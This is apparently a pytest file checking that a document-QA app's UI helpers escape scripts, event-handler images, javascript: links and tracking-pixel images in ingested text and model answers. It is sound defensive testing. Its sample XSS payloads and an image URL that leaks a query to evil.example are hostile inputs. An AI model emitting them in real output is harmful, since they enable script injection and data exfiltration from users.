"""ui.helpers: safe highlighting and markdown (from an ingested file to the export too), progress estimates, result
lines, Markdown export."""

from __future__ import annotations

import html
import re
from types import SimpleNamespace

import pytest

from agentic_rag import AnswerResult, Citation, Claim, OfflineBrain, build_agent
from document_processor import Location
from tests.helpers.markdown import QUOTED
from ui import helpers as ui
from ui import helpers as ui_helpers


# Per helper: test_highlight_escapes_document_text_before_wrapping_matches above,
# tests/ui/test_answer_view.py::test_source_card_escapes_document_text_and_marks_matches and tests/test_app.py (the
# "<script>" answer rendered through AppTest). Here: the same end to end, from an ingested file.
def test_script_and_markdown_tricks_in_a_document_stay_text_from_ingest_to_export(kb, fake_embedder):
    evil = ("Quarterly ledger <script>alert('x')</script> <img src=x onerror=alert(1)> "
            "[click](javascript:alert(1)) ![track](http://127.0.0.1:9/p.png) :red[alarm] $5 and $6.")
    kb.ingest_bytes(evil.encode(), "evil.txt")
    result = build_agent(OfflineBrain(fake_embedder), kb.retriever, embedder=fake_embedder).ask(
        "What is in the quarterly ledger?")
    chunk_text = result.citations[0].text
    html = ui_helpers.highlight_html(chunk_text, ["ledger"])
    assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html
    shown = ui_helpers.md_text(chunk_text)
    assert "](" not in shown.replace("\\](", "") and "\\[click\\]" in shown and "\\$5" in shown
    answer = ui_helpers.md_safe(result.answer)
    assert "<script" not in answer
    # the answer quotes the document: neither its link nor its image may come out live (an image would be fetched)
    assert "](" not in answer.replace("\\](", "")


def test_a_link_or_image_the_model_wrote_is_text_with_its_address_in_the_export():
    from agentic_rag import AnswerResult

    text = ("Revenue was $5.2 million [1]. ![logo](https://outside.example/?q=revenue) "
            "See [the filing](https://outside.example/f) and <https://outside.example/raw> <img src=x>.")
    answer = AnswerResult(answer=text, citations=(), mode="gemini")
    md = ui.conversation_markdown([{"role": "user", "content": "Revenue?"},
                                   {"role": "assistant", "content": text, "answer": answer}], "Gemini")
    assert "![" not in md and "](http" not in md and "<https" not in md and "<img" not in md
    assert "logo (image not loaded: `https://outside.example/?q=revenue`)" in md
    assert "the filing (`https://outside.example/f`)" in md and "`https://outside.example/raw`" in md
    assert "[1]" in md  # citations stay
    assert ui_helpers.inert_links("See the \\[guide\\](http://x) first [P2].") == "See the \\[guide\\](http://x) first [P2]."


def test_query_terms_drop_stopwords_keep_numbers_and_order():
    assert ui.query_terms("What is the revenue of ACME in 2023 and the revenue growth?") == (
        "revenue", "acme", "2023", "growth")
    assert ui.query_terms("") == ()
    assert ui.query_terms("what is it?") == ()


def test_match_spans_are_prefix_matches_and_merged():
    text = "Revenues rose; revenue growth was strong."
    spans = ui.match_spans(text, ["revenue", "growth"])
    assert [text[a:b] for a, b in spans] == ["Revenues", "revenue", "growth"]
    assert ui.match_spans(text, []) == []
    assert ui.match_spans("", ["x"]) == []


def test_highlight_escapes_document_text_before_wrapping_matches():
    text = 'Total <script>alert("x")</script> revenue & costs'
    out = ui.highlight_html(text, ["revenue", "script"])
    assert "<script>" not in out
    assert "&lt;<mark>script</mark>&gt;" in out
    assert "<mark>revenue</mark> &amp; costs" in out
    assert ui.highlight_html("a & b", ["amp"]) == "a &amp; b"  # a term never matches inside an entity
    assert ui.highlight_html("", ["x"]) == ""


def test_md_safe_keeps_formatting_but_shows_html_latex_and_directives_as_text():
    out = ui.md_safe('<img src=x onerror="alert(1)"> costs $5 and $7 :red[alarm] :smile: **bold**')
    assert "<img" not in out and "&lt;img" in out
    assert "\\$5" in out and "\\$7" in out
    assert "\\:red\\[alarm\\]" in out and f"\\:{ui.JOINER}smile\\:" in out
    assert "**bold**" in out  # the answer's own markdown still works
    assert ui.md_safe("R&D") == "R&amp;D"


def test_md_safe_leaves_no_live_link_or_image():
    out = ui.md_safe("See ![pixel](http://evil.example/?q=secret) and [click](https://evil.example) [1] "
                     "<https://evil.example> https://evil.example\n[ref]: http://evil.example")
    assert re.search(r"(?<!\\)\[", out) is None and re.search(r"(?<!\\)\]", out) is None
    assert "&lt;https" in out and f"https\\:{ui.JOINER}//" in out
    assert "\\[1\\]" in out


def seen(markdown: str) -> str:
    """The text Streamlit's Markdown parser hands its text-level plugins (autolinks, icons, emoji, arrows):
    backslash escapes and entities resolved. Checked for real in tests/ui/test_browser_helpers.py."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown))


def live(markdown: str, mark: str) -> bool:
    """Whether `mark` occurs in `markdown` without a backslash escaping it (an even run of backslashes before)."""
    return re.search(r"(?<!\\)(?:\\\\)*" + re.escape(mark), markdown) is not None


@pytest.mark.parametrize("render", [ui.md_safe, ui.md_text], ids=["md_safe", "md_text"])
@pytest.mark.parametrize("text", QUOTED)
def test_quoted_document_text_renders_nothing_but_itself(render, text):
    out = render(text)
    assert not live(out, "[") and not live(out, "$")  # no link, no image, no formula
    plain = seen(out)
    assert plain.replace(ui.JOINER, "") == text  # reads as it is
    for pattern in (r"https?://", r"www\.", r"@[-\w]", r":material[/_]", r":[\w+-]+:", r"(^|\s)(->|<-|--|>=|<=|~=)(\s|$)"):
        assert re.search(pattern, plain) is None, (pattern, plain)  # nothing for Streamlit to link or draw


def test_md_safe_still_renders_the_answers_own_markdown():
    answer = "**Revenue** rose [1].\n\n- first\n- second\n\n| year | value |\n|---|:--:|\n| 2023 | 5 |\n\n---\n"
    out = ui.md_safe(answer)
    assert "**Revenue**" in out and "\n- first\n- second\n" in out
    assert "| year | value |\n|---|:--:|\n| 2023 | 5 |" in out and out.endswith("\n---\n")
    assert seen(out) == answer  # citations read [1], as written


def test_md_text_shows_text_literally():
    assert ui.md_text("*draft*_v2_.pdf") == "\\*draft\\*\\_v2\\_.pdf"
    assert ui.md_text("<b>x</b> & $5 :red[y] a|b ~c~ `d`") == (
        "\\<b\\>x\\</b\\> \\& \\$5 \\:red\\[y\\] a\\|b \\~c\\~ \\`d\\`")
    assert ui.md_text("1. one\n- two\n  # three\n+ four") == "1\\. one\n\\- two\n  \\# three\n\\+ four"
    assert ui.md_text("report v2.0 (final) - 12. May") == "report v2.0 (final) - 12. May"  # only where Markdown reads it
    assert ui.md_text("Title\n===\n---") == "Title\n\\===\n\\---"  # no heading, no rule
    assert ui.md_text("") == ""


def test_format_seconds_bytes_plural():
    assert ui.format_seconds(0.42) == "0.4 s"
    assert ui.format_seconds(12.4) == "12 s"
    assert ui.format_seconds(185) == "3 min 05 s"
    assert ui.format_bytes(900) == "900 B"
    assert ui.format_bytes(2048) == "2.0 KB"
    assert ui.format_bytes(3 * 1024**2) == "3.0 MB"
    assert ui.plural(1, "page") == "1 page" and ui.plural(3, "slide") == "3 slides"
    assert ui.plural(1, "lines") == "1 line" and ui.plural(4, "lines") == "4 lines"


def test_time_left_says_almost_done_under_a_second_never_zero_seconds():
    assert ui.time_left(0.2) == "almost done" and ui.time_left(0.04) == "almost done"
    assert ui.time_left(6.6) == "about 7 s left" and ui.time_left(125) == "about 2 min 05 s left"


def _result(**kw):
    base = dict(file_name="a.pdf", status="indexed", reason="", kind="", doc_id="d1", duplicate_of=None,
                chunks=12, units=3, unit_name="page", seconds=1.5, warnings=())
    base.update(kw)
    return SimpleNamespace(**base)


def test_result_lines_for_each_status():
    assert ui.result_line(_result()) == ("indexed", "**a.pdf** — indexed (12 chunks, 3 pages, 1.5 s)")
    assert ui.result_line(_result(file_name="*x*.pdf"))[1].startswith("**\\*x\\*.pdf** — indexed")
    status, line = ui.result_line(_result(status="duplicate", duplicate_of="b.pdf"))
    assert status == "duplicate" and "duplicate of b.pdf (skipped)" in line
    status, line = ui.result_line(_result(status="replaced", units=1, unit_name="sheet"))
    assert "replaced" in line and "1 sheet" in line
    status, line = ui.result_line(_result(file_name="<b>x</b>.pdf", status="failed", reason="the PDF is encrypted"))
    assert status == "failed" and line == "**\\<b\\>x\\</b\\>.pdf** — failed: the PDF is encrypted"


def test_document_caption():
    rec = SimpleNamespace(file_type="pdf", unit_name="page", units=15, chunks=120, size_bytes=2 * 1024**2)
    assert ui.document_caption(rec) == "PDF · 15 pages · 120 chunks · 2.0 MB"
    rec = SimpleNamespace(file_type="txt", unit_name="", units=0, chunks=1, size_bytes=0)
    assert ui.document_caption(rec) == "TXT · 1 chunk"


def test_scores_text_leaves_out_missing_scores():
    hit = SimpleNamespace(score=0.0328, vector_score=0.712, bm25_score=None, strategy="hybrid")
    assert ui.scores_text(hit) == "score 0.033 · vector 0.71 · hybrid"


def test_conversation_markdown_has_answers_sources_and_reasoning():
    messages = [
        {"role": "user", "content": "What is the revenue?"},
        {"role": "assistant", "content": "Revenue was $5M [1].", "answer": AnswerResult(
            "Revenue was $5M [1].", "offline",
            citations=(Citation(1, "r.pdf", "d1", Location(page=3), "Revenue  was\n$5M."),),
            trace=({"step": "analyze", "summary": "factual question", "seconds": 0.2, "llm_calls": 1},),
            claims=(Claim("Revenue was $5M", "supported", (1,)),),
            confidence=0.9, warnings=("Gemini was slow",))},
    ]
    md = ui.conversation_markdown(messages, "Offline (extractive)")
    assert "## Q: What is the revenue?" in md
    assert "Revenue was $5M [1]." in md
    assert "- [1] r.pdf · p. 3 — “Revenue was $5M.”" in md
    assert "**analyze** (0.2 s, 1 LLM calls): factual question" in md
    assert "claim (supported): Revenue was $5M [1]" in md
    assert "confidence: 0.90" in md and "> Warning: Gemini was slow" in md
    assert ui.conversation_markdown([], "Gemini").startswith("# Conversation")


def test_the_export_states_each_answers_mode():
    messages = [{"role": "user", "content": "q1"},
                {"role": "assistant", "content": "a1", "answer": AnswerResult("a1", "gemini"),
                 "model": "gemini-3.8-flash"},
                {"role": "user", "content": "q2"},
                {"role": "assistant", "content": "a2", "answer": AnswerResult("a2", "offline"),
                 "model": "gemini-3.8-flash"},
                {"role": "user", "content": "q3"},
                {"role": "assistant", "content": "", "error": "the index went away"}]
    md = ui.conversation_markdown(messages, "Gemini · gemini-3.8-flash")
    assert md.count("_Answered by:") == 3
    assert "_Answered by: Gemini (gemini-3.8-flash)_\n\na1" in md
    assert "_Answered by: Offline (extractive)_\n\na2" in md  # a Gemini answer that fell back offline says so
    assert "no answer (the question failed)_\n\nthe index went away" in md


def test_time_left_never_reads_zero():
    assert [ui.time_left(s) for s in (0.0, 0.04, 0.99, 1.2, 9.6, 75)] == [
        "almost done", "almost done", "almost done", "about 1 s left", "about 10 s left", "about 1 min 15 s left"]


def test_export_file_name():
    assert ui.export_file_name(0).startswith("conversation-19") and ui.export_file_name().endswith(".md")


def test_chat_history_keeps_answered_pairs():
    messages = [{"role": "user", "content": "q1"}, {"role": "assistant", "content": "a1"},
                {"role": "user", "content": "q2"}, {"role": "assistant", "content": "", "error": "failed"},
                {"role": "user", "content": "q3"}, {"role": "assistant", "content": "a3"}]
    assert ui.chat_history(messages) == (("q1", "a1", ()), ("q3", "a3", ()))
    assert ui.chat_history(messages, turns=1) == (("q3", "a3", ()),)
    assert ui.chat_history([]) == ()
    from agentic_rag import AnswerResult
    from agentic_rag.types import Citation
    from document_processor import Location

    cited = Citation(1, "a.pdf", "doc-a", Location(page=2), "Adam uses beta1 = 0.9.")
    messages[-1]["answer"] = AnswerResult(answer="a3", mode="offline", citations=(cited,))
    assert ui.chat_history(messages)[-1] == ("q3", "a3", (cited,))  # its sources travel with it


def test_error_reason_prefers_the_human_reason():
    class Reasoned(Exception):
        reason = "Gemini refused the key"

    assert ui.error_reason(Reasoned("raw details")) == "Gemini refused the key"
    assert ui.error_reason(RuntimeError("the  index\nwent away")) == "RuntimeError: the index went away"
    assert ui.error_reason(KeyError()) == "KeyError"
    assert len(ui.error_reason(ValueError("x" * 1000), limit=50)) == 50


def test_live_answer_streams_tokens_steps_and_fallback():
    live = ui.LiveAnswer()
    assert live.apply(("event", "analyze", {"status": "started"})) == ("label", "Analysing the question…")
    kind, line = live.apply(("event", "analyze", {"status": "done", "summary": "fact <b>q</b>", "seconds": 0.25}))
    assert kind == "line" and line == ":material/check: **Analysing the question** — fact \\<b\\>q\\</b\\> (0.2 s)"
    assert live.apply(("token", "Costs were ")) == ("answer", "Costs were  ▌")
    assert live.apply(("token", "$5.")) == ("answer", "Costs were \\$5. ▌")
    kind, line = live.apply(("event", "synthesize", {"status": "fallback", "reason": "quota"}))
    assert kind == "fallback" and "Gemini failed (quota)" in line and live.parts == []
    assert live.apply(("token", "Offline.")) == ("answer", "Offline. ▌")
    assert live.apply(("event", "verify", {"status": "other"})) == ("", "")


def test_a_file_indexed_with_a_warning_says_so_on_its_line():
    from advanced_retrieval import IngestResult

    result = IngestResult("scan.png", "indexed", chunks=2, units=1, unit_name="page", seconds=3.0,
                          warnings=("OCR confidence is low (mean 38/100): check the passages against the page",))
    status, line = ui.result_line(result)
    assert status == "indexed" and line.endswith("— ⚠ OCR confidence is low (mean 38/100)\\: check the passages "
                                                 "against the page")


def test_suggested_questions_are_ones_the_library_answers_well():
    from types import SimpleNamespace

    from advanced_retrieval.library.outline import Outline, Section
    from advanced_retrieval.tables import Column
    from ui.helpers import EXAMPLE_QUESTIONS, suggested_questions

    paper = SimpleNamespace(file_name="turbine_study.pdf", doc_id="p")
    outline = Outline((Section("Abstract", 1, 0, 0), Section("1 Introduction", 1, 1, 3), Section("2 Method", 1, 4, 9)))
    table = SimpleNamespace(file_name="cars.csv", n_rows=406, columns=(
        Column("Name", "Name", False), Column("Miles_per_Gallon", "Miles_per_Gallon", True),
        Column("(in millions except per share)", "x", True)))
    assert suggested_questions([paper], lambda doc_id: outline, [table]) == (
        "Summarise turbine study.", "What does the Method section of turbine study say?",
        "Which Name has the highest Miles per Gallon in cars?")
    two = [paper, SimpleNamespace(file_name="cars.csv", doc_id="c")]
    assert suggested_questions(two)[0] == "Summarise the main points of each document."
    assert suggested_questions([]) == EXAMPLE_QUESTIONS
